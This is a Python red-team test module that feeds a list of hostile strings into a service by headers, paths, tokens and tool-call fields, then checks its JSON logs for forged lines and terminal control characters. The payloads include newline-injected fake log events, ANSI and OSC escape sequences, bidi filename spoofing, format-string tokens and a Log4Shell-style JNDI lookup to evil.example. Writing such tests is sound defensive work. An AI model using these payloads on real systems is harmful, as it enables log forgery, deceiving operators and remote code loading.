"""Texts that are to forge a log line, steer the terminal of who reads it, or break its JSON; and a journal's likewise.

Every text carries a mark. What the colony logged must be lines of JSON, one event each, none of them the attacker's,
and without a character that a terminal obeys.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path

from cenoby.telemetry.logs import get_logger
from redteam import wire
from redteam.house import House, suite, until
from redteam.report import Report, Room
from redteam.target import ANSWERS

_FORGED = '{"time":"2026-01-01T00:00:00.000000Z","level":"error","logger":"forged","event":"all_is_well"}'
_TEXTS = (
    f"\n{_FORGED}",
    f"\r\n{_FORGED}",
    f"\r{_FORGED}",
    f"\u2028{_FORGED}",
    f"\u2029{_FORGED}",
    f"\x85{_FORGED}",
    f"\x0b{_FORGED}",
    f"\x0c{_FORGED}",
    f'"}}\n{_FORGED}',
    '","logger":"forged","x":"',
    '\\","logger":"forged","x":"\\',
    "\\u0022,\\u0022logger\\u0022:\\u0022forged",
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;title\x07",
    "\x9b31mred",
    "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "\x1bP$q\x1b\\",
    "\x08" * 40,
    "\x00",
    "\x7f",
    "\ud800",
    "\u202etxt.exe",
    "\u2066hidden\u2069",
    "\U000e0041\U000e0042",
    "%n%s%x",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%(levelname)s",
    "{{7*7}}",
    "[red]markup[/red]",
)
_STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\U000e0000-\U000e007f]")
_WAYS = ("crash", "error", "argument", "tool name", "agent header", "path", "user agent", "meta", "token")


def _attacks() -> Iterator[tuple[str, str]]:
    yield from ((way, text) for way in _WAYS for text in _TEXTS)


async def _send(house: House, way: str, text: str) -> None:
    """Bring a text to where the colony may log it."""
    ANSWERS["log"] = text
    if way in ("crash", "error"):
        await house.call("ada", f"mads.target.{'break_down' if way == 'crash' else 'fail'}", number="log")
        return
    if way == "argument":
        await house.call("ada", "mads.target.say", text=text)
        return
    flat = re.sub(r"[\r\n]", " ", text).encode("utf-8", "surrogatepass").decode("latin-1")
    message = wire.tool_call(
        text if way == "tool name" else "mads.target.say", {"text": "x"}, {"note": text} if way == "meta" else {}
    )
    headers = {"agent header": {"x-agent": flat}, "user agent": {"user-agent": flat}}.get(way, {})
    name = flat if way == "tool name" else "mads.target.say"
    token = flat if way == "token" else house.tokens["ada"]
    path = f"/mcp/{flat.replace(' ', '')}" if way == "path" else "/mcp"
    await wire.send(house.port, wire.written(json.dumps(message).encode(), token, name, headers, path=path), patience=5)


async def _logged(log: Path, start: int, mark: str) -> str:
    """What was logged since `start`, up to a line of ours that follows it."""
    get_logger("redteam").error("mark", mark=mark)
    lines = ""

    async def there() -> bool:
        nonlocal lines
        with log.open(newline="") as file:
            file.seek(start)
            lines = file.read()
        return lines.endswith("\n") and f'"{mark}"' in lines

    assert await until(there), "the log is not written"
    return lines


def problems(log: str) -> list[str]:
    """What is wrong with lines of a log, in words."""
    found: list[str] = []
    for line in log.split("\n"):
        if not line:
            continue
        try:
            event = json.loads(line, object_pairs_hook=_once)
        except ValueError as error:
            found.append(f"no line of JSON ({error}): {line[:200]!r}")
            continue
        if event.get("logger") == "forged":
            found.append(f"forged: {line[:200]!r}")
        if steers := _STEERS.search(line):
            found.append(f"a terminal obeys {steers[0]!r}: {line[:200]!r}")
    return found


def _once(pairs: list[tuple[str, object]]) -> dict[str, object]:
    if len(dict(pairs)) < len(pairs):
        raise ValueError("a member stands twice")
    return dict(pairs)


async def attack(house: House, room: Room) -> Report:
    """Bring each text in by each way, and read the log after each."""
    report = Report()
    log = Path(room.folder / "log")
    ANSWERS["log"] = "an innocent cause"
    await house.call("ada", "mads.target.break_down", number="log")
    report.control("nothing is logged", passed="an innocent cause" in await _logged(log, 0, "control"))
    for number, (way, text) in enumerate(room.draw(_attacks())):
        before = log.stat().st_size  # noqa: ASYNC240 - a file of this process
        await _send(house, way, text)
        wrong = problems(await _logged(log, before, f"attack {number}"))
        report.count(f"{way}: {text[:40]!r}: {wrong[:1]}", stopped=not wrong)
    records = (await house.call("pia", "mads.grace.list_records", limit=200)).text
    steers = _STEERS.search(records.partition("\r\n\r\n")[2])
    report.count(f"the journal's answer: {steers}", stopped=steers is None)
    return report


play = suite(attack)
